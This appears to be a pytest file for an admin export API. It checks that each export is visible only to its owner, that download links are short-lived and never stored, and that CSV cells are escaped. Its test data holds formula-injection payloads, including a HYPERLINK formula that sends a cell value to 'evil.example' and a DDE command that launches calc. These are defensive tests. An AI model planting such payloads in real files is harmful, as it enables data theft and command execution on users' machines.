"""Exports, tried as another admin and as a spreadsheet would open them: an export is only its
requesting admin's (other admins get 404 on its state, link, download and cancel, and read no row of
it through the Data API); its link is a Storage URL signed for EXPORT_LINK_TTL_S anew on each read,
never stored; cells a spreadsheet would run as formulas are quoted."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import AsyncIterator, Callable
from typing import Any

import httpx
import jwt
import psycopg
import pytest

from jobs.inline import InlineRun
from kamioi.settings import Settings
from tests.api.conftest import AppClient
from tests.jobs.support import jobs_settings

pytestmark = pytest.mark.usefixtures("stack_worker_paused")

LINK_TTL_S = 120
# merchant_name -> how the cell must read in the file.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "PLAIN = SHOP": "PLAIN = SHOP",
}


@pytest.fixture
async def client(app_client: AppClient) -> AsyncIterator[httpx.AsyncClient]:
    async with app_client(export_link_ttl_s=LINK_TTL_S) as client:
        yield client


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def finished_export(
    client: httpx.AsyncClient, headers: dict[str, str], settings: Settings, owner_db: psycopg.Connection[Any], body: Any
) -> dict[str, Any]:
    created = await client.post("/v1/exports", json=body, headers=headers)
    assert created.status_code == 202, created.text
    export_id = created.json()["id"]
    row = owner_db.execute("select queue_job_id from public.export_jobs where id = %s", (export_id,)).fetchone()
    assert row is not None
    assert InlineRun(settings.db_url, row[0], jobs_settings()).run() == "succeeded"
    done: dict[str, Any] = (await client.get(f"/v1/exports/{export_id}", headers=headers)).json()
    return done


async def test_an_export_is_its_admins_alone_and_its_links_are_short_lived(
    client: httpx.AsyncClient,
    settings: Settings,
    make_user: Callable[[str], str],
    token_for: Callable[..., str],
    owner_db: psycopg.Connection[Any],
) -> None:
    owner, other = make_user("admin"), make_user("admin")
    mine, theirs = bearer(token_for(owner)), bearer(token_for(other))
    done = await finished_export(
        client, mine, settings, owner_db, {"list": "users", "filters": {"email_prefix": f"admin-{owner[:8]}"}}
    )
    export_id = done["id"]

    # Another admin: nothing of it, whichever way they ask.
    assert (await client.get(f"/v1/exports/{export_id}", headers=theirs)).status_code == 404
    assert (await client.get(f"/v1/exports/{export_id}/download", headers=theirs)).status_code == 404
    assert (await client.post(f"/v1/exports/{export_id}/cancel", headers=theirs)).status_code == 404
    with owner_db.transaction():
        owner_db.execute("select set_config('request.jwt.claims', %s, true)", (json.dumps({"sub": other}),))
        owner_db.execute("set local role authenticated")
        assert owner_db.execute("select count(*) from public.export_jobs where id = %s", (export_id,)).fetchone() == (
            0,
        )

    # The owner: a link signed for LINK_TTL_S on every read (the row holds none to hand out), never
    # stored or mailed.
    again = (await client.get(f"/v1/exports/{export_id}", headers=mine)).json()
    links = [done["download_url"], again["download_url"]]
    assert all(link.startswith("http") and "token=" in link for link in links)
    for link in links:
        claims = jwt.decode(link.split("token=", 1)[1], options={"verify_signature": False})
        assert claims["exp"] - claims["iat"] == LINK_TTL_S
    stored = owner_db.execute(
        "select e.download_url, m.details ->> 'link' from public.export_jobs as e"
        " join private.mail_outbox as m on m.job_kind = 'export' and m.job_id = e.id where e.id = %s",
        (export_id,),
    ).fetchone()
    assert stored == (f"/v1/exports/{export_id}/download",) * 2

    # The download: the worker's file, or (once it is gone) a redirect to a fresh short-lived link.
    local = await client.get(f"/v1/exports/{export_id}/download", headers=mine)
    assert local.status_code == 200
    (settings.exports_dir / done["file_name"]).unlink()
    redirected = await client.get(f"/v1/exports/{export_id}/download", headers=mine)
    assert redirected.status_code == 307
    async with httpx.AsyncClient() as browser:  # no key, as the admin's browser follows it
        assert (await browser.get(redirected.headers["location"])).content == local.content


async def test_formula_cells_are_quoted(
    client: httpx.AsyncClient,
    admin_headers: dict[str, str],
    settings: Settings,
    owner_db: psycopg.Connection[Any],
) -> None:
    prefix = f"formula-{uuid.uuid4().hex[:10]}"
    keys = {name: f"{prefix}-{n}" for n, name in enumerate(FORMULAS)}
    for name, key in keys.items():
        owner_db.execute(
            "insert into public.llm_mappings (merchant_name, merchant_key, company_name) values (%s, %s, %s)",
            (name, key, name),
        )
    try:
        done = await finished_export(
            client,
            admin_headers,
            settings,
            owner_db,
            {"list": "mappings", "filters": {"merchant_key_prefix": prefix}},
        )
        download = await client.get(f"/v1/exports/{done['id']}/download", headers=admin_headers)
        rows = list(csv.DictReader(io.StringIO(download.text, newline="")))
        by_key = {row["merchant_key"]: row for row in rows}
        assert {name: by_key[key]["merchant_name"] for name, key in keys.items()} == FORMULAS
        assert {name: by_key[key]["company_name"] for name, key in keys.items()} == FORMULAS
        assert all(not row["created_at"].startswith("'") for row in rows)
        (settings.exports_dir / done["file_name"]).unlink()
    finally:
        owner_db.execute("delete from public.llm_mappings where merchant_key like %s", (prefix + "%",))
